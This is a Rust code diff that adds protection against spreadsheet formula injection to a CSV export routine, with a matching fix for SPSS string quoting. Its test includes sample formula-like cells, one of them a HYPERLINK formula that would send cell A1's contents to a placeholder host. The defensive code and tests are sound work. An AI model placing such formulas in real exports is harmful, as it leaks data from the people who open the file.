@@ -87,14 +87,31 @@ pub fn variable_name(key: &str) -> String {
 
 const BOM: &[u8] = b"\xEF\xBB\xBF";
 
+/// A cell as a spreadsheet may read it without running anything: text that starts like a
+/// formula (`=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, which Excel
+/// and LibreOffice show as text. Plain numbers, negative ones too, stay numbers.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = cell.strip_prefix('-').is_some_and(|n| {
+        !n.is_empty()
+            && n.chars()
+                .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
+    });
+    if risky && !number {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 fn write_csv(header: Vec<String>, rows: &[Vec<String>], separator: Separator) -> Vec<u8> {
     let mut writer = csv::WriterBuilder::new()
         .delimiter(separator.byte())
         .from_writer(BOM.to_vec());
     // Writing to memory cannot fail.
-    let _ = writer.write_record(&header);
+    let _ = writer.write_record(header.iter().map(|h| spreadsheet_safe(h).into_owned()));
     for row in rows {
-        let _ = writer.write_record(row);
+        let _ = writer.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()));
     }
     writer.into_inner().unwrap_or_default()
 }
@@ -204,7 +221,7 @@ pub fn r_script(table: &Table, csv_file: &str, separator: Separator) -> String {
 }
 
 fn spss_string(text: &str) -> String {
-    format!("'{}'", text.replace('\'', "''").replace('\n', " "))
+    format!("'{}'", text.replace('\'', "''").replace(['\n', '\r'], " "))
 }
 
 /// SPSS syntax that reads the CSV with variable labels, value labels and missing values.
@@ -347,6 +364,48 @@ mod tests {
     fn names_are_safe_for_r_and_spss() {
         assert_eq!(variable_name("hulp-op-tijd"), "hulp_op_tijd");
         assert_eq!(variable_name("10-vragen"), "v10_vragen");
+    }
+
+    #[test]
+    fn cells_that_start_like_a_formula_are_written_as_text() {
+        let rows = vec![vec![
+            "=HYPERLINK(\"http://x\"&A1;\"klik\")".to_owned(),
+            "+31 6".to_owned(),
+            "-2+A1".to_owned(),
+            "@SUM(A1)".to_owned(),
+            "\tx".to_owned(),
+            "\rx".to_owned(),
+            "-12".to_owned(),
+            "3,5".to_owned(),
+            "gewoon".to_owned(),
+        ]];
+        let csv = rows_to_csv(&["a"; 9], &rows, Separator::Semicolon);
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .from_reader(&csv[BOM.len()..]);
+        let read: Vec<String> = reader
+            .records()
+            .next()
+            .unwrap()
+            .unwrap()
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        assert_eq!(
+            read,
+            [
+                "'=HYPERLINK(\"http://x\"&A1;\"klik\")",
+                "'+31 6",
+                "'-2+A1",
+                "'@SUM(A1)",
+                "'\tx",
+                "'\rx",
+                "-12",
+                "3,5",
+                "gewoon"
+            ]
+        );
+        assert_eq!(spss_string("a\r\nb"), "'a  b'");
     }
 
     #[test]
